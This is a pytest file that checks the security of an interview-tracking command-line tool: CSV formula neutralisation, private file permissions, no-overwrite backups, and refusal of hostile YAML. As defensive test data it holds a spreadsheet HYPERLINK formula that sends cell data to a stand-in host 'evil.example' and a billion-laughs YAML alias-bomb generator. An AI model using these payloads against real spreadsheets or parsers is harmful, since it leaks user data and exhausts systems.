"""What the command line writes is safe to open and private; hostile YAML is refused."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.conftest import EXAMPLES, ROOT, mode

PANEL = EXAMPLES / "panel-interview.yaml"


def interview_file(tmp_path: Path, **application: str) -> str:
    data = yaml.safe_load(PANEL.read_text(encoding="utf-8"))
    data["application"].update(application)
    target = tmp_path / "interview.yaml"
    target.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return str(target)


def test_a_csv_export_neutralises_a_company_written_as_a_formula(cli: Any, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1, "Open")'
    added = cli(
        "add", interview_file(tmp_path, company=formula, role="-1+2"), "--now", "2026-11-20T16:00"
    )
    assert added.code == 0, added.err
    rows = list(csv.DictReader(io.StringIO(cli("export", "--format", "csv").out)))
    assert rows[0]["company"] == "'" + formula
    assert rows[0]["role"] == "'-1+2"


def test_exports_backups_and_cards_are_private_from_the_start(
    cli: Any, tmp_path: Path, open_umask: None
) -> None:
    assert cli("add", str(PANEL), "--now", "2026-11-20T16:00").code == 0
    stale = tmp_path / "search.json"
    stale.write_text("an older export", encoding="utf-8")
    stale.chmod(0o644)
    written = {
        "search.json": cli("export", "--output", str(stale)),
        "search.csv": cli("export", "--format", "csv", "--output", str(tmp_path / "search.csv")),
        "copy.db": cli("backup", str(tmp_path / "copy.db")),
        "card.html": cli("card", "--html", str(tmp_path / "card.html")),
    }
    for name, result in written.items():
        assert result.code == 0, (name, result.err)
        assert mode(tmp_path / name) == 0o600, name
    assert stale.read_text(encoding="utf-8").startswith("{")


def test_a_backup_never_replaces_an_existing_file(cli: Any, tmp_path: Path) -> None:
    assert cli("add", str(PANEL), "--now", "2026-11-20T16:00").code == 0
    target = tmp_path / "copy.db"
    target.write_bytes(b"someone else's file")
    result = cli("backup", str(target))
    assert result.code == 2
    assert "already exists; choose a new file name" in result.err
    assert target.read_bytes() == b"someone else's file"


def billion_laughs() -> str:
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"l{n}: &l{n} [" + ", ".join([f"*l{n - 1}"] * 9) + "]" for n in range(1, 9)]
    return "\n".join(lines) + "\n"


HOSTILE = {
    "alias bomb": (billion_laughs(), "more than 100,000 values"),
    "deep lists": (  # where the file takes any list: a topic nested 20,000 levels deep
        PANEL.read_text(encoding="utf-8").replace(
            "      topics:\n", "      topics:\n        - " + "[" * 20_000 + "]" * 20_000 + "\n", 1
        ),
        "nested more than 64 levels",
    ),
    "impossible date": (
        PANEL.read_text(encoding="utf-8").replace("2026-11-20T14:00", "2026-02-30", 1),
        "cannot read '2026-02-30' as a date",
    ),
}


@pytest.mark.parametrize("command", ["plan", "add"])
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_yaml_is_refused_in_one_line_with_exit_2(
    tmp_path: Path, afterview_home: Path, command: str, case: str
) -> None:
    text, message = HOSTILE[case]
    path = tmp_path / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    done = subprocess.run(
        [sys.executable, "-m", "afterview", command, str(path), "--now", "2026-11-20T16:00"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2, done.stderr[-2000:]
    assert message in done.stderr
    assert done.stderr.count("\n") == 1
    assert "Traceback" not in done.stderr


def test_a_hostile_debrief_file_is_refused_and_nothing_is_stored(cli: Any, tmp_path: Path) -> None:
    assert cli("add", str(PANEL), "--now", "2026-11-20T16:00").code == 0
    before = cli("export").json()["tables"]
    entry = tmp_path / "debrief.yaml"
    entry.write_text(billion_laughs(), encoding="utf-8")
    result = cli("debrief", "1", "--file", str(entry), "--now", "2026-11-20T20:00")
    assert result.code == 2
    assert "more than 100,000 values" in result.err
    assert cli("export").json()["tables"] == before


def test_an_archive_with_a_step_given_twice_is_refused_whole_through_the_cli(
    cli: Any, tmp_path: Path
) -> None:
    assert cli("add", str(PANEL), "--now", "2026-11-20T16:00").code == 0
    archive = cli("export").json()
    steps = archive["tables"]["actions"]["rows"]
    steps.append(list(steps[0]))
    path = tmp_path / "archive.json"
    path.write_text(json.dumps(archive), encoding="utf-8")
    before = cli("export").json()["tables"]
    result = cli("import", str(path))
    assert result.code == 2
    assert "has the step 'celebrate:celebrate::' twice" in result.err
    assert result.err.count("\n") == 1
    assert cli("export").json()["tables"] == before
